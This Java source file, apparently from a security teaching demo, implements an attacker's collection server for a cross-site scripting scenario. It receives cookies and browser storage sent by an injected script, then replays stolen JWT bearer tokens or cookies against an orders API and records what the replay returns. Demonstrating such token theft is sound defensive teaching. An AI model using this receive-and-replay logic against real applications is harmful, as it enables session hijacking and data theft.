package dev.cloakroom.examples.demo;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jspecify.annotations.Nullable;
import tools.jackson.databind.JsonNode;

/**
 * The thief's server: takes what the injected script sends, and tries it from here, where none of the user's browser is. A
 * bearer token is tried at the API that wants it, cookies at the application that they come from.
 */
final class Thief {

    private static final Pattern JWT = Pattern.compile("eyJ[A-Za-z0-9_-]+\\.[A-Za-z0-9_-]+\\.[A-Za-z0-9_-]+");
    private static final int MAXIMUM_LOOT = 64 * 1024;
    private static final int SHOWN_OF_TOKEN = 18;
    private static final Duration PATIENCE = Duration.ofSeconds(10);

    private final HttpClient client = HttpClient.newBuilder()
            .version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(PATIENCE)
            .build();
    private final URI orders;
    private final Caller demo;

    /** By application: what the last script sent, and what it was good for. */
    private final Map<String, Map<String, Object>> loot = new ConcurrentHashMap<>();

    Thief(URI orders, Caller demo) {
        this.orders = orders;
        this.demo = demo;
    }

    /** Adds where loot is sent to, for the script in one application. */
    void addTo(Router router, String application) {
        router.add("POST", "/api/thief", request -> receive(request, application));
    }

    /** Adds what the page shows of the loot. */
    void addViewTo(Router router) {
        router.add("GET", "/api/thief", request -> Response.json(200, loot)).add("DELETE", "/api/thief", request -> {
            loot.clear();
            return Response.empty();
        });
    }

    private Response receive(Request request, String application) throws HttpError, IOException {
        JsonNode sent = Json.readObject(request.text(MAXIMUM_LOOT));
        String cookies = sent.path("cookie").stringValue("");
        Map<String, Object> found = new LinkedHashMap<>();
        found.put("at", Instant.now());
        found.put("cookie", cookies);
        found.put("localStorage", shown(sent.path("localStorage")));
        found.put("sessionStorage", shown(sent.path("sessionStorage")));
        Matcher token = JWT.matcher(sent.toString());
        if (token.find()) {
            tryToken(found, token.group());
        } else {
            tryCookies(found, cookies);
        }
        loot.put(application, found);
        return Response.empty();
    }

    private void tryToken(Map<String, Object> found, String token) throws HttpError {
        HttpRequest request = HttpRequest.newBuilder(orders)
                .header("Authorization", "Bearer " + token)
                .timeout(PATIENCE)
                .build();
        try {
            tried(found, "Authorization: Bearer " + shortened(token), client.send(request, BodyHandlers.ofByteArray()));
        } catch (IOException e) {
            throw new HttpError(502, "the orders cannot be reached");
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new HttpError(503, "the demo is shutting down");
        }
    }

    private void tryCookies(Map<String, Object> found, String cookies) throws HttpError {
        HttpResponse<byte[]> answer;
        try {
            answer = demo.get("/api/orders", cookies);
        } catch (IllegalArgumentException e) {
            throw new HttpError(400, "no cookies have this form");
        }
        tried(found, cookies.isEmpty() ? "no token, no cookie" : "Cookie: " + cookies, answer);
    }

    private static void tried(Map<String, Object> found, String with, HttpResponse<byte[]> answer) {
        found.put("tried", "GET /orders, " + with);
        found.put("status", answer.statusCode());
        found.put("answer", new String(answer.body(), StandardCharsets.UTF_8));
    }

    /** Returns names and values, tokens shortened: what the page shows need not be good for anything. */
    private static List<Map<String, String>> shown(JsonNode storage) {
        List<Map<String, String>> shown = new ArrayList<>();
        storage.properties()
                .forEach(entry -> shown.add(Map.of(
                        "name",
                        entry.getKey(),
                        "value",
                        shortened(entry.getValue().stringValue("")))));
        return shown;
    }

    private static String shortened(@Nullable String text) {
        return text == null || text.length() <= 2 * SHOWN_OF_TOKEN
                ? String.valueOf(text)
                : text.substring(0, SHOWN_OF_TOKEN) + "… (" + text.length() + " characters)";
    }
}
